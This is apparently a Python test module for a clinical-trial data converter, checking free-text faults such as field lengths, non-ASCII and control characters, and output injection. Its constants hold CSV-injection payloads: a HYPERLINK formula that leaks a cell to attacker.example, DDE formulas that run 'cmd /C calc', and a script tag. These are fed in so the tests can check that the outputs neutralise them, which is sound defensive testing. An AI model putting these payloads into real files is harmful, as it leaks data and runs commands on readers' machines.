"""Faults in free text: lengths, non-ASCII characters, control characters, and text that would attack
whoever opens an output (formulas in a spreadsheet, markup in a browser)."""

from __future__ import annotations

from faults.study import BUNDLE, Error, Study, accepted, collector, one_value, refused

CASES, case = collector()

SDTM = "m5/datasets/mirocals/tabulations/sdtm"
WORDS = "persistent frontal headache with photophobia nausea and intermittent dizziness on standing "
# Text that must reach no output unneutralised (tests/test_fault_outputs.py scans every CSV, XLSX and HTML).
HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
DDE = "=cmd|' /C calc'!A0"
SCRIPT = "<script>alert('mirocals')</script>"
PAYLOADS = (HYPERLINK, DDE, SCRIPT, "+SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0")


def _ae(s: Study, nth: int) -> int:
    return s.line("AE", nth=nth)


# One value each, refused at its record and field (see cases_values.REFUSED).
REFUSED = [
    ("aeterm_601", "length", "a 601-character verbatim AE term", "AE", "AETERM", "x" * 601,
     "at most 600 bytes (the field's length in specs/raw)", 9),
    ("cmtrt_201", "length", "a 201-character medication name", "CM", "CMTRT", "y" * 201, "at most 200 bytes", 4),
    ("aeterm_multibyte", "ascii", "a 150-character AE term of accented letters (300 UTF-8 bytes), refused as not ASCII",
     "AE", "AETERM", "é" * 150, "ASCII text (SAS transport v5) instead of 'é' (U+00E9); rerun with --transliterate",
     10),
    ("non_ascii_text", "ascii", "accents and a dash in a medical history term", "MH", "MHTERM", "Müller – café",
     "instead of 'ü' (U+00FC), '–' (U+2013), 'é' (U+00E9)", 1),
    ("emoji_text", "ascii", "an emoji in a medication name", "CM", "CMTRT", "Aspirin 💊", "has no ASCII form", 5),
    ("bel_in_text", "control", "a BEL character in an AE term", "AE", "AETERM", "Headache\a",
     "text without control characters: U+0007 (BEL) cannot go", 15),
    ("ansi_escape_in_text", "control", "an ANSI colour escape in an AE term", "AE", "AETERM",
     "\x1b[31mHeadache\x1b[0m", "U+001B (ESC)", 16),
    ("del_in_text", "control", "a DEL character in a cause of death", "DEATH", "DTHCAUS", "Pneumonia\x7f",
     "U+007F (DEL)", 2),
]
for row in REFUSED:
    one_value(case, *row)
# Refused even with --transliterate: nothing to map to, or a control character that is not non-ASCII text.
one_value(case, "cjk_text", "ascii", "Chinese characters: no ASCII form, refused even with --transliterate", "AE",
          "AETERM", "頭痛", "'頭' (U+982D), '痛' (U+75DB) has no ASCII form", 12, options=("--transliterate",))
one_value(case, "c1_control_in_text", "control", "a C1 control (NEL) in a cause of death: one message, not a second "
          "for non-ASCII", "DEATH", "DTHCAUS", "Respiratory failure\x85", "U+0085 (C1 control)", 1,
          options=("--transliterate",))


# ---- lengths

@case("length", "a 300-character verbatim AE term (ASCII): the rest goes to SUPPAE")
def aeterm_300(s: Study):
    line = _ae(s, 6)
    term = (WORDS * 4)[:300].strip()
    s.set("AE", line, "AETERM", term)
    return accepted(convert=BUNDLE, effects=((f"{SDTM}/suppae.json", term[-60:]),))


@case("length", "a 600-character verbatim AE term, the longest the CRF field takes")
def aeterm_600(s: Study):
    line = _ae(s, 7)
    s.set("AE", line, "AETERM", (WORDS * 8)[:600])
    return accepted(convert=BUNDLE)


@case("length", "a 600-character AE term whose long words need a fifth 200-character part")
def aeterm_too_many_parts(s: Study):
    line = _ae(s, 8)
    word = "x" * 199
    s.set("AE", line, "AETERM", " ".join(["a", word, "b", word, "c", word])[:600])
    return refused(Error("ae.csv", line, "AETERM", "at most 4 parts of 200 characters"))


# ---- non-ASCII

@case("ascii", "the same term with --transliterate: mapped to ASCII and logged")
def aeterm_multibyte_transliterated(s: Study):
    line = _ae(s, 11)
    s.set("AE", line, "AETERM", "é" * 150)
    return accepted(options=("--transliterate",), convert=BUNDLE,
                    notes=(f"transliterated: ae.csv:{line}, column AETERM: '{'é' * 150}' -> '{'e' * 150}'",),
                    effects=(("conversion.log", f"transliterated: ae.csv:{line}, column AETERM"),))


@case("ascii", "accents and a dash, with --transliterate")
def non_ascii_transliterated(s: Study):
    line = s.line("MH", nth=2)
    s.set("MH", line, "MHTERM", "Müller – café")
    return accepted(options=("--transliterate",), convert=BUNDLE,
                    notes=(f"transliterated: mh.csv:{line}, column MHTERM: 'Müller – café' -> 'Muller - cafe'",),
                    typed=(("MH", line, "MHTERM", "Muller - cafe"),))


# ---- control characters

@case("control", "a line break inside a quoted AE term: a space, logged")
def newline_in_text(s: Study):
    line = _ae(s, 13)
    s.set("AE", line, "AETERM", "Headache\nwith photophobia")
    return accepted(convert=BUNDLE,
                    notes=(f"line break or TAB as a space: ae.csv:{line}, column AETERM: "
                           "'Headache\\nwith photophobia' -> 'Headache with photophobia'",),
                    effects=((f"{SDTM}/ae.json", '"Headache with photophobia"'),
                             ("conversion.log", f"line break or TAB as a space: ae.csv:{line}, column AETERM")))


@case("control", "a CRLF inside a quoted AE term in a file of LF lines: one space")
def crlf_in_text(s: Study):
    line = _ae(s, 14)
    s.set("AE", line, "AETERM", "Nausea\r\nin the morning")
    return accepted(convert=BUNDLE, typed=(("AE", line, "AETERM", "Nausea in the morning"),),
                    notes=(f"ae.csv:{line}, column AETERM: 'Nausea\\nin the morning' -> 'Nausea in the morning'",))


@case("control", "a TAB inside a medication name: a space, logged")
def tab_in_text(s: Study):
    line = s.line("CM", nth=6)
    s.set("CM", line, "CMTRT", "Paracetamol\t500")
    return accepted(convert=BUNDLE, typed=(("CM", line, "CMTRT", "Paracetamol 500"),),
                    notes=(f"line break or TAB as a space: cm.csv:{line}, column CMTRT",))


@case("control", "a NUL character in an AE term: the file is taken for binary")
def nul_in_text(s: Study):
    line = _ae(s, 17)
    s.set("AE", line, "AETERM", "Head\0ache")
    return refused(Error("ae.csv", None, None, "not a CSV file: it contains binary data"))


# ---- output injection (accepted as data; every output must neutralise it)

@case("injection", "an AE term that is a spreadsheet HYPERLINK formula")
def aeterm_hyperlink(s: Study):
    s.set("AE", _ae(s, 18), "AETERM", HYPERLINK)
    return accepted(convert=BUNDLE)


@case("injection", "a medication name that runs a command through DDE")
def cmtrt_dde(s: Study):
    s.set("CM", s.line("CM", nth=7), "CMTRT", DDE)
    return accepted(convert=BUNDLE)


@case("injection", "an AE term holding a script element")
def aeterm_script(s: Study):
    s.set("AE", _ae(s, 19), "AETERM", SCRIPT)
    return accepted(convert=BUNDLE)


@case("injection", "formulas led by +, @ and - in other free text")
def other_formula_leads(s: Study):
    s.set("MH", s.line("MH", nth=3), "MHTERM", PAYLOADS[3])
    s.set("DEATH", s.line("DEATH", nth=3), "DTHCAUS", PAYLOADS[4])
    s.set("CM", s.line("CM", lambda r: r["CMINDC"] != "", 8), "CMINDC", PAYLOADS[5])
    return accepted(convert=BUNDLE)


def _every_ae_of(s: Study, k: int, field: str, value: str) -> None:
    """`value` in `field` of every AE of the k-th randomised subject with AEs, so that it reaches the
    safety tables whichever of them is treatment-emergent."""
    randomised = s.randomised()
    subject = sorted({r["SUBJID"].strip() for r in s.records("AE") if r["SUBJID"].strip() in randomised})[k]
    for r in s.records("AE"):
        if r["SUBJID"].strip() == subject:
            s.set("AE", r["_line"], field, value)


@case("injection", "a preferred term that is a formula: it reaches the safety tables")
def aedecod_formula(s: Study):
    _every_ae_of(s, 0, "AEDECOD", HYPERLINK)
    return accepted(convert=BUNDLE)


@case("injection", "a system organ class holding a script element: it heads a safety table group")
def aebodsys_script(s: Study):
    _every_ae_of(s, 1, "AEBODSYS", SCRIPT)
    return accepted(convert=BUNDLE)


@case("injection", "a TAB-led formula: the TAB becomes a space, the formula stays data")
def tab_led_formula(s: Study):
    line = _ae(s, 20)
    s.set("AE", line, "AETERM", "\t=1+1")
    return accepted(convert=BUNDLE, typed=(("AE", line, "AETERM", " =1+1"),),
                    notes=(f"line break or TAB as a space: ae.csv:{line}, column AETERM",))


@case("injection", "a subject identifier that is a formula, in every form of a screen failure")
def subject_formula(s: Study):
    failure = sorted(set(s.subjects("ENROL")) - set(s.randomised()))[0]
    for form in s.spec.raw:
        for r in s.records(form):
            if r["SUBJID"].strip() == failure:
                s.set(form, r["_line"], "SUBJID", "=1+2")
    return accepted(convert=BUNDLE)
